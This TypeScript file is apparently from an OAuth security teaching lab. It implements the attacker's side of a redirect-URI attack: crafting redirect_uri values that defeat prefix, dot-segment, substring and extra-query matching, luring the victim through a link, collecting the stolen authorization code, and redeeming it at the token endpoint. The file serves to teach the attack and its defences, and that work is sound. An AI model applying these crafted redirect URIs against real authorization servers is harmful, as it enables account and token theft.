import { readAttackerLog, attackerUrl } from '@/lib/attack-lab/attacker-log';
import { errorPageMessage, findStolenCode, type StolenCode } from '@/lib/attack-lab/stolen-code';
import type { Outcome } from '@/lib/attack-lab/verdict';
import { recordFetch } from '@/lib/http-trace/record';
import { buildAuthorizationUrl } from '@/lib/oauth-client/authorization-request';
import type { ServerMetadata } from '@/lib/oauth-client/discovery';
import { makeCodeVerifier, makeRandomValue, s256ChallengeSteps } from '@/lib/oauth-client/pkce';
import { ok } from '@/lib/oauth-client/result';
import { processTokenResponse, type TokenSet } from '@/lib/oauth-client/token-response';
import type { RealmDescriptor } from '@/lib/realms/descriptor';
import { networkFailure, type StepOutput } from '../step-output';

/**
 * Mallory's side of the redirect-URI attack: the link she crafts, what her site caught, and her
 * redemption of Alice's code at the token endpoint (recorded as exchanges from the `attacker`).
 */

/** The public browser client whose redirect URI she abuses (`spa`: no secret to lack). */
export const VICTIM_CLIENT = 'spa';
export const LINK_SCOPE = 'photos:read';

/** How each variant bends the registered `{origin}/flows/callback` onto her site, and the lab weakness that lets it through. */
export const REDIRECT_VARIANTS = {
  prefix: { label: 'Prefix match', weakness: 'as-redirect-uri-prefix' },
  'path-normalisation': { label: 'Path prefix (dot segments)', weakness: 'as-redirect-uri-path-normalisation' },
  substring: { label: 'Substring match', weakness: 'as-redirect-uri-substring' },
  pkce: { label: 'Prefix, PKCE of Alice’s app', weakness: 'as-redirect-uri-prefix' },
  'extra-query': { label: 'Extra query + the client’s redirector', weakness: 'as-redirect-uri-extra-query' },
} as const;
export type RedirectVariant = keyof typeof REDIRECT_VARIANTS;

/**
 * The Vulnerable realm of a variant. An extra query parameter alone still lands the code at the real
 * callback: it takes the client's open redirector (`client-open-redirect`) to forward it (RFC 9700 §4.11.1).
 */
export function redirectVariantWeaknesses(variant: RedirectVariant): string[] {
  const w = REDIRECT_VARIANTS[variant].weakness;
  return variant === 'extra-query' ? [w, 'client-open-redirect'] : [w];
}

export const isRedirectVariant = (v: string | undefined): v is RedirectVariant => v !== undefined && Object.hasOwn(REDIRECT_VARIANTS, v);

/**
 * The redirect_uri she presents: the registered URI with something that the loose comparison
 * ignores but the browser follows to `/attacker/{realm}/cb` (the AS resolves the dot segments itself
 * when it builds the redirect, as every URL parser does: RFC 3986 §5.2.4).
 */
export function craftedRedirectUri(origin: string, realm: { id: string }, variant: RedirectVariant): string {
  const registered = `${origin}/flows/callback`;
  const hers = `${origin}${attackerUrl(realm, 'cb')}`;
  if (variant === 'substring') return `${hers}?from=${registered}`;
  if (variant === 'extra-query') {
    // The registered URI with a query the lax AS ignores; the client's callback redirector then hands the response to `next`.
    const u = new URL(registered);
    u.searchParams.set('realm', realm.id);
    u.searchParams.set('next', hers);
    return u.href;
  }
  // prefix, path-normalisation, pkce: climb out of /flows/callback into her site.
  return `${registered}/../..${attackerUrl(realm, 'cb')}`;
}

export interface CraftedLink {
  url: string;
  redirectUri: string;
  state: string;
  /** The verifier of the link's challenge, when Mallory made the challenge herself (not in the `pkce` variant). */
  verifier?: string;
  challenge: string;
  /** Who made the code_challenge: her, or Alice's own client (the `pkce` variant). */
  challengeBy: 'mallory' | 'client';
}

/** Builds the authorization request link (RFC 6749 §4.1.1, RFC 7636 §4.3) Alice will be lured to open. */
export async function craftLink(
  step: string,
  origin: string,
  realm: RealmDescriptor,
  metadata: ServerMetadata,
  variant: RedirectVariant,
): Promise<StepOutput<CraftedLink>> {
  const redirectUri = craftedRedirectUri(origin, realm, variant);
  // In the pkce variant the challenge is the one Alice's client made for its own request: its verifier
  // stays inside Alice's client, so Mallory never learns it (she only rewrote the redirect_uri).
  const pair = await s256ChallengeSteps(makeCodeVerifier());
  const state = makeRandomValue();
  const built = buildAuthorizationUrl(metadata.authorization_endpoint, {
    clientId: VICTIM_CLIENT,
    redirectUri,
    scope: LINK_SCOPE,
    state,
    codeChallenge: pair.challenge,
  });
  const mine = variant !== 'pkce';
  return {
    step,
    exchanges: [],
    facts: [
      { label: 'registered redirect URI', value: `${origin}/flows/callback` },
      { label: 'redirect_uri in her link', value: redirectUri },
      { label: 'where the browser will land', value: new URL(redirectUri).href },
      {
        label: 'code_challenge made by',
        value: mine ? 'Mallory (she keeps the code_verifier)' : 'Alice’s client (the code_verifier never leaves it)',
      },
    ],
    result: ok({
      url: built.url,
      redirectUri,
      state,
      challenge: pair.challenge,
      challengeBy: mine ? 'mallory' : 'client',
      ...(mine ? { verifier: pair.verifier } : {}),
    }),
  };
}

export type Collected = { stolen: StolenCode } | { outcome: Outcome };

/**
 * Mallory reads her site's log for a code with her link's state. When none arrived, she opens her own
 * link herself (recorded) to see what the AS makes of it: the hardened AS answers with an error page
 * and redirects nowhere (RFC 6749 §4.1.2.1).
 */
export async function collectCode(step: string, realm: RealmDescriptor, link: CraftedLink): Promise<StepOutput<Collected>> {
  try {
    // Her site is on the realm's own origin; the URL is made absolute so the same code runs outside a page (tests).
    const origin = new URL(realm.issuer).origin;
    const records = await readAttackerLog(realm, (url, init) => fetch(new URL(String(url), origin), init));
    const stolen = findStolenCode(records, link.state);
    if (stolen) {
      const facts = [
        { label: 'her site received', value: `GET /attacker/…${stolen.path}` },
        { label: 'code', value: stolen.code },
        { label: 'state (hers: this is her link’s delivery)', value: stolen.state ?? '' },
        ...(stolen.iss ? [{ label: 'iss', value: stolen.iss }] : []),
      ];
      return { step, exchanges: [], facts, result: ok({ stolen }) };
    }
    const { exchange, response, body } = await recordFetch(
      new Request(link.url, { headers: { accept: 'text/html' }, redirect: 'manual' }),
      { step, from: 'attacker', to: 'as' },
    );
    const message = errorPageMessage(body);
    const facts = [
      { label: 'her site received', value: 'nothing with her link’s state' },
      { label: 'the AS’s answer to her link', value: `HTTP ${response.status}${message ? ` — ${message}` : ''}` },
    ];
    const refused = response.status === 400 && message !== undefined;
    const what = refused
      ? `the authorization server refused the redirect_uri with an error page (HTTP 400, “${message}”) and redirected nowhere, so Mallory’s site never received a code.`
      : `Mallory’s site received no code for her link (the AS answered her link with HTTP ${response.status}); was the link opened and consent given? Press Reset to try again.`;
    return { step, exchanges: [exchange], facts, result: ok({ outcome: { succeeded: false, what } }) };
  } catch (e) {
    return networkFailure(step, e);
  }
}

export type Redeemed = { tokens: TokenSet } | { outcome: Outcome };

/**
 * She redeems the code herself as the public client: the same redirect_uri string she put in the link
 * (RFC 6749 §4.1.3) and the code_verifier — if she has it (RFC 7636 §4.5).
 */
export async function redeemCode(step: string, metadata: ServerMetadata, link: CraftedLink, code: string): Promise<StepOutput<Redeemed>> {
  const form = new URLSearchParams({ grant_type: 'authorization_code', code, redirect_uri: link.redirectUri, client_id: VICTIM_CLIENT });
  if (link.verifier) form.set('code_verifier', link.verifier);
  const request = new Request(metadata.token_endpoint, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' },
    body: form.toString(),
  });
  try {
    const { exchange, response, body } = await recordFetch(request, { step, from: 'attacker', to: 'as' });
    const tokens = processTokenResponse(response.status, body);
    if (tokens.ok) return { step, exchanges: [exchange], result: ok({ tokens: tokens.value }) };
    const what =
      `the token endpoint refused to redeem Alice’s stolen code: HTTP ${response.status} ` +
      `${tokens.error.message.replace(/\.$/, '')}.${link.verifier ? '' : ' The code is bound to the code_challenge of Alice’s client, and Mallory has no code_verifier for it.'}`;
    return {
      step,
      exchanges: [exchange],
      facts: [{ label: 'token endpoint', value: `HTTP ${response.status} ${tokens.error.code}` }],
      result: ok({ outcome: { succeeded: false, what } }),
    };
  } catch (e) {
    return networkFailure(step, e);
  }
}
